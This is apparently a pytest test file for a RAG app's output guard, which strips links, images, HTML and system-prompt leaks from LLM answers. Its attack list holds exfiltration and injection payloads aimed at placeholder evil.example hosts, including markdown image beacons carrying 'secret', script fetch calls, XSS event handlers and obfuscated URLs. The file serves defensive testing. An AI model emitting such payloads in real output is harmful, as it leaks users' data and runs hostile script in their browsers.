"""What an LLM wrote, without what could act; the attacks are written for this test."""

from __future__ import annotations

import re
from itertools import chain, repeat

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag_app.grounding.output_guard import Guard, SafeStream
from rag_app.prompts import shipped_prompts

SYSTEM = shipped_prompts().answer_messages("?", [])[0]["content"]
RULE = " ".join(SYSTEM.split()[20:40])

PASSAGES = ["See https://docs.example/ws40?page=2 or mail keeper@mast.example. Docs: handbook.pdf"]
ATTACKS = [
    "[click here](https://evil.example/steal)",
    "[click here]( <https://evil.example/a b> 'now')",
    "![](https://evil.example/x.png?q=secret)",
    "![chart][c]\n\n[c]: https://evil.example/c.png",
    "[more][1]\n\n[1]: https://evil.example",
    "[1]\n\n[1]: //evil.example/x",
    "<https://evil.example>",
    "https://evil.example/path?d=secret",
    "HTTPS://EVIL.EXAMPLE",
    "www.evil.example",
    "evil.example/login",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "mailto:thief@evil.example",
    "thief@evil.example",
    "thief@evil.example@evil.example[a](https://evil.example)",
    "<img src=x onerror=alert(1)>",
    "<a href='https://evil.example'>x</a>",
    "<script>fetch('//evil.example')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;b&amp;gt;bold",
    "&#104;ttps://evil.example",
    "ht\u200btps://evil.example",
    "[a\u202e](https://evil.example)",
    "htt[p](x)s://evil.example",
    "www[.](x)evil.example",
    "[a [b](https://evil.example) c](https://evil.example)",
    "![a ![b](https://evil.example) c](https://evil.example)",
    "https://docs.example/ws40?page=2&d=secret",
    "https://docs.example.evil.example/",
    "<!-- hidden --> shown",
    "<svg/onload=alert(1)>",
    "\U000e0068\U000e0069 hidden",
    SYSTEM,
    SYSTEM[200:420],
    SYSTEM.upper(),
    f"My rules: **{RULE}**",
]
ACTS = re.compile(r"evil|thief|<[a-z/!?]|\bjavascript:|\bdata:|&d=|\U000e0068", re.IGNORECASE)


def guard(hosts: tuple[str, ...] = ()) -> Guard:
    return Guard(PASSAGES, [SYSTEM], hosts)


def violations(text: str) -> list[str]:
    """What acts in a text, or is of the rules."""
    parser = MarkdownIt("commonmark", {"html": True, "linkify": False})
    tokens = [token for one in parser.parse(text) for token in (one, *(one.children or []))]
    bad = [token.type for token in tokens if token.type in ("link_open", "image", "html_inline")]
    bad += [token.type for token in tokens if token.type == "html_block"]
    bad += ACTS.findall(text)
    words = re.findall(r"\w+", SYSTEM.lower())
    shown = " " + " ".join(re.findall(r"\w+", text.lower())) + " "
    for place in range(len(words) - 7):
        if f" {' '.join(words[place : place + 8])} " in shown:
            bad.append("the rules")
            break
    return bad


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "The mast is 10 m high. {} It is red.", "- a\n- {}\n- b"])
def test_nothing_that_acts_is_left(attack: str, around: str) -> None:
    text = around.format(attack)
    cleaned = guard().clean(text)
    assert cleaned != text
    assert violations(cleaned) == []
    assert guard().clean(cleaned) == cleaned
    if around.startswith("The"):
        assert cleaned.startswith("The mast is 10 m high.") and cleaned.endswith("It is red.")


FIRST, REST = " ".join(SYSTEM.split()[20:25]), " ".join(SYSTEM.split()[25:33])


@settings(deadline=None)
@example(pieces=["My rules: **" + RULE + "**"], sizes=[59, 7])
@example(pieces=[FIRST, " <b> ", REST], sizes=[])
@example(pieces=[FIRST, " ", RULE, " ", REST], sizes=[])
@given(
    st.lists(st.sampled_from([*ATTACKS, "word ", " ", "\n", "[", "](", "]", "!", "<", ">", "("])),
    st.lists(st.integers(1, 60), max_size=100),
)
def test_nothing_slips_through_in_parts(pieces: list[str], sizes: list[int]) -> None:
    text = "".join(pieces)
    stream = SafeStream(guard())
    shown = ""
    for size in chain(sizes, repeat(1)):
        if not text:
            break
        shown += stream.feed(text[:size])
        text = text[size:]
    assert violations(shown + stream.end()) == []


@pytest.mark.parametrize(
    "text",
    [
        "The mast is 10 m high [1][2]. If a < b and c > d, it holds. [3, 4]",
        "See https://docs.example/ws40?page=2.",
        "Write to keeper@mast.example, or read handbook.pdf.",
        "Wow! [1] It is **bold**, `code`, and a list:\n\n1. one\n2. two",
        "| a | b |\n|---|---|\n| 1 | 2 [1] |",
        "At 10:30, ratio 2:1, e.g. and/or, 5/6, etc. AT&T; version 2.3.1 [2]",
        "Copy names, numbers, dates and units.",
    ],
)
def test_what_is_harmless_stays(text: str) -> None:
    assert guard().clean(text) == text
    stream = SafeStream(guard())
    assert "".join(map(stream.feed, text)) + stream.end() == text


def test_a_host_that_is_allowed_may_be_named_but_shown_as_text() -> None:
    allowed = guard(("intranet.example",))
    text = "[wiki](https://wiki.intranet.example/a) or https://intranet.example, not ![x](https://intranet.example/x.png)"
    assert allowed.clean(text) == (
        "wiki (https://wiki.intranet.example/a) or https://intranet.example, not x"
    )
    assert "left out" in guard(("intranet.example",)).clean("https://notintranet.example")


def test_it_is_said_what_was_left_out() -> None:
    watch = guard()
    watch.clean("[a](https://evil.example) ![b](c.png) <b>bold</b>")
    assert watch.notes() == (
        "2 HTML tags were left out.",
        "1 picture was left out.",
        "1 link was left out.",
    )


def test_words_come_as_they_are_written() -> None:
    stream = SafeStream(guard())
    assert stream.feed("The mast has ") == "The mast has "
    assert stream.feed("10 m [see") == "10 m "
    assert stream.feed(" this](https://evil") == ""
    assert stream.feed(".example) now, ") == "see this now, "
    assert stream.end() == ""
